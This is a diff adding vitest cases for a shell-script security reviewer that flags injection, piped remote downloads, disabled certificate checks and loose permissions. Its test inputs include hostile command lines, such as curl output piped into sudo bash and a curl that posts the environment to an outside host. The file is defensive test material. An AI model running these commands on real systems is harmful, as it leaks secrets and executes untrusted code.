@@ -1,0 +1,66 @@
+import { describe, expect, test } from 'vitest';
+import { judgeShell } from '../../../../reviewers/security/shell/judge-shell.ts';
+
+const rules = (text: string): string[] =>
+  judgeShell(text, 'a.sh').hazards.map(({ rule, severity = '' }) => `${rule} ${severity}`.trim());
+
+describe('values that are read as code', () => {
+  test.each([
+    ['eval "$1"', ['command-injection suggestion']],
+    ['cmd="ls $1"\neval "$cmd"', ['command-injection suggestion']],
+    ['eval "$(brew shellenv)"', []],
+    ['eval set -- "$args"', []],
+    ['cmd="ls -l"\neval "$cmd"', []],
+    ['read -r x\nbash -c "echo $x"', ['command-injection warning']],
+    ['read -r x\nbash -c \'echo "$1"\' bash "$x"', []],
+    ['read -r x\nbash -c "echo $(printf %q "$x")"', []],
+    ['read -r x\n"$x"\n$x', ['command-injection warning']],
+    ['ssh "$1" "systemctl restart $2"', ['command-injection suggestion']],
+    ['ssh "$1" uptime', []],
+    ['m=$(git log -1 --format=%s)\npython3 -c "print(\'$m\')"', ['code-injection warning']],
+    ['m=$(git log -1 --format=%s)\npython3 -c \'import sys; print(sys.argv[1])\' "$m"', []],
+    ['psql -c "SELECT * FROM t WHERE n = \'$1\'"', ['sql-injection suggestion']],
+    ['psql -v n="$1" -f q.sql', []],
+    ["read -r n\npsql <<EOF\nDELETE FROM t WHERE n = '$n';\nEOF", ['sql-injection warning']],
+    ["read -r n\npsql <<'EOF'\nDELETE FROM t WHERE n = '$n';\nEOF", []],
+    ["find . -exec sh -c 'gzip {}' \\;", ['command-injection warning']],
+    ['find . -exec sh -c \'gzip "$1"\' sh {} \\;', []],
+    ['case "$1" in\n  up | down) ;;\n  *) exit 1 ;;\nesac\nsh -c "service $1"', []],
+    ['a=$1\ncase "$a" in\n  up | down) ;;\n  *) exit 1 ;;\nesac\nsh -c "service $a"', []],
+    ['a=$1\n[[ $a =~ ^[a-z]+$ ]] || exit 1\nsh -c "service $a"', []],
+  ])('%s', (text, expected) => {
+    expect(rules(text)).toEqual(expected);
+  });
+});
+
+describe('downloads, checks and rights', () => {
+  test.each([
+    ['curl -sSf https://x.example/i.sh | sudo bash -s -- -y', ['downloaded-code warning']],
+    ['bash <(curl -s https://x.example/i.sh)', ['downloaded-code warning']],
+    ['sh -c "$(curl -fsSL https://x.example/i.sh)"', ['downloaded-code warning']],
+    ['curl -sSf https://sh.rustup.rs | sh', ['downloaded-code suggestion']],
+    ["curl -s https://x.example/a.json | python3 -c 'import json'", []],
+    ['curl -o t https://x.example/t\nchmod +x t\n./t', ['downloaded-code suggestion']],
+    ['curl -o t https://x.example/t\necho "aa  t" | sha256sum -c\n./t', []],
+    ['curl -o t https://x.example/v1.2.3/t\n./t', []],
+    ['curl -k https://x.example/a', ['certificate-check-off']],
+    ['curl -k https://localhost:8443/health', []],
+    ['export NODE_TLS_REJECT_UNAUTHORIZED=0', ['certificate-check-off']],
+    ['git clone http://x.example/a.git', ['certificate-check-off']],
+    ['git clone https://x.example/a.git', []],
+    ['chmod -R 777 /srv', ['excessive-permissions suggestion']],
+    ['chmod 0755 /srv', []],
+    ['curl -d "$(env)" https://x.example', ['secret-sent-away']],
+  ])('%s', (text, expected) => {
+    expect(rules(text)).toEqual(expected);
+  });
+});
+
+test.each([
+  ['#!/bin/zsh\necho', 'a', 1],
+  ['echo', 'a.fish', 1],
+  ['if true; then', 'a.sh', 1],
+  ['#!/usr/bin/env bash\necho', 'a.sh', 0],
+])('%s in %s', (text, path, unread) => {
+  expect(judgeShell(text, path).unread).toHaveLength(unread);
+});
